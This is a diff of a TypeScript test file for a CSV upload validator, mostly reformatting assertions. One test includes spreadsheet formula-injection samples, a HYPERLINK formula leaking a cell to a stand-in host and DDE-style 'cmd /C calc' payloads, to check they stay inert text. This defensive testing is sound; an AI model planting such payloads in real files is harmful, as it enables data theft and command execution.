@@ -26,7 +26,17 @@ describe('validateCsvBytes: CSV bytes → typed rows', () => {
 	it('UTF-8 with BOM, semicolons, percent rate → typed reports rows with notes', () => {
 		const v = validateCsvBytes('reports.csv', enc('\uFEFFreport_id;year;execution_rate;synthetic;budget_wan\nu1;2022;95%;false;1,234.5\n'));
 		expect(v.problems).toEqual([]);
-		expect(v.rows).toEqual([expect.objectContaining({ report_id: 'u1', year: 2022, execution_rate: 0.95, synthetic: false, budget_wan: 1234.5, source_file: 'reports.csv', score: null })]);
+		expect(v.rows).toEqual([
+			expect.objectContaining({
+				report_id: 'u1',
+				year: 2022,
+				execution_rate: 0.95,
+				synthetic: false,
+				budget_wan: 1234.5,
+				source_file: 'reports.csv',
+				score: null
+			})
+		]);
 		expect(v.delimiter).toBe(';');
 		expect(v.notes.map((n) => n.en)).toContain('delimiter: ;');
 	});
@@ -49,11 +59,13 @@ describe('formula-looking cells', () => {
 	const csv = (cells: string[]) =>
 		enc(['report_id,seq,kind,text,theme', ...cells.map((c, i) => `u1,${i + 1},问题,"${c.replaceAll('"', '""')}",其他`)].join('\n') + '\n');
 	it('are loaded as the text they are, never evaluated, with a note saying so', () => {
-		const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '+1', 'plain'];
+		const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1', 'plain'];
 		const v = validateCsvBytes('findings.csv', csv(cells));
 		expect(v.problems).toEqual([]);
 		expect(v.rows.map((r) => r.text)).toEqual(cells);
-		expect(v.notes.map((n) => n.en)).toContain("4 text cells start with = + - @ (like spreadsheet formulas): kept as text, never evaluated; CSVs exported here prefix them with '");
+		expect(v.notes.map((n) => n.en)).toContain(
+			"4 text cells start with = + - @ (like spreadsheet formulas): kept as text, never evaluated; CSVs exported here prefix them with '"
+		);
 	});
 	it("the ' this site's CSV exports put before such text comes off again (a downloaded file uploads as it was)", () => {
 		const v = validateCsvBytes('findings.csv', csv(["'=1+1", "'@x", "'plain", "''=x"]));
